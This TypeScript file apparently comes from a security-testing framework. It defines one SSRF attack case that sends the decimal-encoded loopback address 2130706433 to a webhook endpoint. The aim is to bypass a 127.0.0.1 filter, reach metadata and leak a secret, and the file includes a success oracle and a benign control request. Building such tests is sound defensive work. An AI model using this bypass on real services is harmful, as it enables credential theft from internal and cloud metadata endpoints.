import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Passes a filter for 127.0.0.1 with the address as one number. */
export const ssrfWebhookDecimal: Attack = defineAttack({
  id: 'ssrf-webhook-decimal',
  class: 'ssrf',
  title: 'Passes a filter for 127.0.0.1 with the address as one number',
  cwe: 918,
  capec: 664,
  technique: 'T1552.005',
  preconditions: [],

  steps: ({ visitor, sink }) => visitor.json('/api/webhook', { url: sink.url('metadata', '2130706433') }),
  oracle: (answer, { sink }) => sink.hits().length > 0 && answer.text.includes(sink.secret),
  twin: ({ visitor }) => visitor.json('/api/webhook', { url: 'https://hooks.partner.invalid/orders' }),
  twinServed: (answer) => answer.status === 502 && answer.text.includes('could not reach'),
})
